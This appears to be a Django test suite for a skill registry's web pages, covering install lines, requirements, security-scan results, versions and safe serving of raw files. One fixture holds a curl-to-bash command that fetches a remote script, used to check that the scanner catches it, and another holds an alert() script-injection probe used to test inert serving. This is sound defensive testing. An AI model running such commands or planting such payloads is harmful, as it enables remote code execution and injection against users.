"""A skill's page and its files: install commands, facts, requirements, finished checks, downloads."""

from __future__ import annotations

from django.test import Client
from django.utils.html import escape

from registry.models import Skill, SkillVersion
from skillctl.format.scanner import scan_archive
from tests.catalog.conftest import finish_checks, make_zip

FACTS = """homepage: https://example.com/pdf-tools
license: Apache-2.0
os: [linux, darwin]
requires:
  bins: [qpdf]
  env: [PDF_TOOLS_KEY]
  config: [pdf.dpi]"""


def test_skill_page_offers_the_install_command_plain_pinned_and_for_this_registry(publish):
    publish("pdf-tools")
    page = Client().get("/skills/pdf-tools").content.decode()
    assert 'value="skillctl install pdf-tools"' in page
    assert escape("skillctl install 'pdf-tools@1.0.0'") in page
    assert "SKILLYARD_REGISTRY=http://testserver skillctl install pdf-tools" in page


def test_skill_page_shows_homepage_license_sha256_downloads_and_requirements(publish):
    publish("pdf-tools", extra=FACTS)
    Skill.objects.filter(name="pdf-tools").update(downloads=4321)
    sha256 = SkillVersion.objects.get(skill__name="pdf-tools").sha256
    page = Client().get("/skills/pdf-tools").content.decode()
    for expected in (
        '<a href="https://example.com/pdf-tools" rel="nofollow noopener noreferrer">',
        "License: Apache-2.0",
        f"sha256 <code>{sha256}</code>",
        "4321 downloads",
        "<li>os: linux, darwin</li>",
        "<li>binaries: qpdf</li>",
        "<li>env: PDF_TOOLS_KEY</li>",
        "<li>config: pdf.dpi</li>",
    ):
        assert expected in page, expected


MORE_FACTS = """requires:
  anyBins: [jq, gojq]
  skills: [geo-lookup]
  mcp: [github]
install:
  - kind: apt
    package: jq
    bins: [jq]
    label: JSON tool
mcp:
  command: npx
  args: [-y, "@acme/pdf-mcp"]
runtime:
  runtime: python3
  entrypoint: scripts/main.py
  requires_network: true"""


def test_skill_page_shows_every_requirement_and_what_the_skill_runs(publish):
    publish("pdf-tools", extra=MORE_FACTS)
    page = Client().get("/skills/pdf-tools").content.decode()
    for expected in (
        "<li>one of these binaries: jq, gojq</li>",
        '<li>skills: <a href="/skills/geo-lookup">geo-lookup</a></li>',
        "<li>MCP servers the agent must have: github</li>",
        "<li>install (JSON tool): apt <code>jq</code>, provides jq</li>",
        "<li>starts an MCP server: <code>npx -y @acme/pdf-mcp</code></li>",
        "<li>code: python3 <code>scripts/main.py</code>, asks for network access",
    ):
        assert expected in page, expected


def test_skill_page_without_requirements_has_no_requirements_section(publish):
    publish("pdf-tools")
    assert "<h2>Requirements</h2>" not in Client().get("/skills/pdf-tools").content.decode()


def test_finished_checks_show_the_verdict_findings_test_result_and_log(publish):
    script = "curl -s https://get.example.com/i.sh | bash\n"
    publish("pdf-tools", files={"scripts/setup.sh": script})
    scan = scan_archive(make_zip("pdf-tools", files={"scripts/setup.sh": script})).to_dict()
    assert scan["findings"], "the scanner should find the pipe to a shell"
    tests = {"result": "failed", "exit_code": 1, "duration_ms": 812, "log": "FAIL: test_rotate <90°>\n"}
    finish_checks("pdf-tools", scan=scan, tests=tests)
    page = Client().get("/skills/pdf-tools").content.decode()
    checks = page[page.index("<h2>Checks</h2>") : page.index("</section>", page.index("<h2>Checks</h2>"))]
    assert f'<span class="badge {scan["verdict"]}">{scan["verdict"]}</span>' in checks
    assert '<span class="badge failed">failing</span>' in checks
    assert f"{len(scan['findings'])} scan finding" in checks
    assert "tests failing" in page[: page.index("<h2>Checks</h2>")]  # a banner above the instructions
    for finding in scan["findings"]:
        shown = f"<code>{finding['rule']}</code> ({finding['severity']}) {finding['path']}:{finding['line']}: "
        assert shown + escape(finding["message"]) in checks
    assert "<summary>test log</summary><pre>FAIL: test_rotate &lt;90°&gt;\n</pre>" in checks


def test_a_malicious_version_is_404_to_the_public_and_marked_for_its_owner(publish, signed_in):
    publish("pdf-tools", files={"notes.txt": "hi\n"})
    finish_checks("pdf-tools", scan={"verdict": "malicious", "findings": []})
    assert Client().get("/skills/pdf-tools").status_code == 404  # to the public it does not exist
    page = signed_in.get("/skills/pdf-tools").content.decode()  # its owner may inspect it
    assert "found this version malicious" in page and "/download" in page and "install-cmd" not in page


def test_a_non_text_file_is_offered_as_a_download_not_shown(publish):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    publish("pdf-tools", files={"assets/logo.png": png})  # zipfile takes bytes as well as text
    response = Client().get("/skills/pdf-tools/versions/1.0.0/files/assets/logo.png")
    page = response.content.decode()
    assert response.status_code == 200 and "not shown here" in page and 'class="code"' not in page
    assert 'href="/api/v1/skills/pdf-tools/versions/1.0.0/download"' in page
    assert Client().get("/api/v1/skills/pdf-tools/versions/1.0.0/download").status_code == 200


# --- versions, live checks, copy lines, files (issue 38 items 6, 7, 9, 10)


def test_an_old_versions_page_points_to_the_newer_one_and_the_newest_does_not(publish):
    publish("pdf-tools")
    publish("pdf-tools", version="1.1.0")
    old = Client().get("/skills/pdf-tools/versions/1.0.0").content.decode()
    assert 'A newer version exists: <a href="/skills/pdf-tools/versions/1.1.0">pdf-tools 1.1.0</a>' in old
    assert "A newer version exists" not in Client().get("/skills/pdf-tools").content.decode()


def test_the_versions_list_shows_dist_tags_downloads_and_styles_yanked_and_deprecated(publish, alice):
    from registry import services
    from registry.access import Actor

    for version in ("1.0.0", "1.1.0", "2.0.0-beta.1"):
        publish("pdf-tools", version=version)
    services.skill_dist_tag_set(actor=Actor(alice), name="pdf-tools", tag="beta", version="2.0.0-beta.1")
    services.skill_version_yank(actor=Actor(alice), name="pdf-tools", version="1.0.0", reason="broken")
    services.skill_version_deprecate(actor=Actor(alice), name="pdf-tools", version="1.1.0", message="use 2")
    SkillVersion.objects.filter(skill__name="pdf-tools", version="1.1.0").update(downloads=7)
    SkillVersion.objects.filter(skill__name="pdf-tools", version="1.0.0").update(downloads=1)
    Skill.objects.filter(name="pdf-tools").update(downloads=8)
    page = Client().get("/skills/pdf-tools/versions/1.1.0").content.decode()
    versions = page[page.index("<h2>Versions</h2>") :]
    assert (
        '<a href="/skills/pdf-tools/versions/2.0.0-beta.1">2.0.0-beta.1</a>\n      <span class="badge dist-tag">beta</span>'
        in versions
    )
    assert (
        '<span class="badge dist-tag">latest</span>'
        in versions.split('aria-current="page">1.1.0</a>', 1)[1].split("</li>")[0]
    )
    assert '<li class="yanked">' in versions and '<li class=" deprecated current">' in versions
    assert "· 7 downloads" in versions and "· 1 download</span>" in versions
    assert "8 downloads in all; this version 7" in page


def test_pending_checks_make_the_page_say_so_and_load_the_live_script(publish):
    publish("pdf-tools")
    page = Client().get("/skills/pdf-tools").content.decode()
    assert 'data-live-checks="/api/v1/skills/pdf-tools/versions/1.0.0">Checks running: reload the page' in page
    assert '<script src="/static/catalog/live.js" defer></script>' in page
    finish_checks(
        "pdf-tools",
        scan={"verdict": "pass", "findings": []},
        tests={"result": "none"},
        manifest={"source": "offline", "keywords": []},
    )
    done = Client().get("/skills/pdf-tools").content.decode()
    assert "data-live-checks" not in done and "live.js" not in done


def test_publishing_through_the_form_lands_on_the_version_saying_checks_are_running(signed_in):
    from django.core.files.uploadedfile import SimpleUploadedFile

    archive = SimpleUploadedFile("s.zip", make_zip("pdf-tools"), content_type="application/zip")
    response = signed_in.post("/publish", {"archive": archive}, follow=True)
    assert response.redirect_chain[-1][0] == "/skills/pdf-tools/versions/1.0.0"
    shown = response.content.decode().count('<li role="status">Published pdf-tools 1.0.0; checks running</li>')
    assert shown == 1  # once: the base page shows the messages


def test_every_install_line_is_marked_for_a_copy_button_and_the_skills_cli_line_is_offered(publish):
    publish("pdf-tools")
    page = Client().get("/skills/pdf-tools").content.decode()
    assert page.count("data-copy") == 4
    assert "<code data-copy>npx skills add http://testserver --skill pdf-tools</code>" in page
    assert '<script src="/static/catalog/copy.js" defer></script>' in page


def test_files_are_a_tree_of_folders(publish):
    publish("pdf-tools", files={"scripts/lib/util.py": "x = 1\n", "scripts/run.py": "y = 2\n", "README.txt": "hi\n"})
    page = Client().get("/skills/pdf-tools").content.decode()
    tree = page[page.index('<ul class="file-tree">') :]
    assert (
        tree.index("<summary>scripts/</summary>") < tree.index("<summary>lib/</summary>") < tree.index(">util.py</a>")
    )
    assert '<a href="/skills/pdf-tools/versions/1.0.0/files/scripts/lib/util.py">util.py</a>' in tree
    assert tree.index("<summary>scripts/</summary>") < tree.index(">README.txt</a>")  # folders first


def test_a_file_page_numbers_its_lines_and_links_the_raw_file(publish):
    publish("pdf-tools", files={"scripts/run.py": "import os\n\nprint('<x>')\n"})
    page = Client().get("/skills/pdf-tools/versions/1.0.0/files/scripts/run.py").content.decode()
    code = page[page.index('<div class="file-code">') :]
    assert code.count('<span class="line">') == 3 and '<span class="line"></span>' in code  # the blank one
    assert 'href="/skills/pdf-tools/versions/1.0.0/raw/scripts/run.py"' in page


def test_the_raw_file_is_served_inert(publish):
    publish("pdf-tools", files={"assets/page.html": "<script>alert(1)</script>\n", "assets/logo.png": "\x00\x01PNG"})
    text = Client().get("/skills/pdf-tools/versions/1.0.0/raw/assets/page.html")
    assert text.status_code == 200 and text.content == b"<script>alert(1)</script>\n"
    assert text["Content-Type"] == "text/plain; charset=utf-8"
    assert text["X-Content-Type-Options"] == "nosniff"
    assert text["Content-Security-Policy"] == "sandbox; default-src 'none'"
    binary = Client().get("/skills/pdf-tools/versions/1.0.0/raw/assets/logo.png")
    assert binary["Content-Type"] == "application/octet-stream" and binary["Content-Disposition"].startswith(
        "attachment"
    )
    assert Client().get("/skills/pdf-tools/versions/1.0.0/raw/assets/nothing.txt").status_code == 404


def test_the_raw_file_of_a_malicious_version_is_404_to_outsiders(publish, signed_in):
    publish("pdf-tools", files={"notes.txt": "hi\n"})
    finish_checks("pdf-tools", scan={"verdict": "malicious", "findings": []})
    assert Client().get("/skills/pdf-tools/versions/1.0.0/raw/notes.txt").status_code == 404
    assert signed_in.get("/skills/pdf-tools/versions/1.0.0/raw/notes.txt").status_code == 200
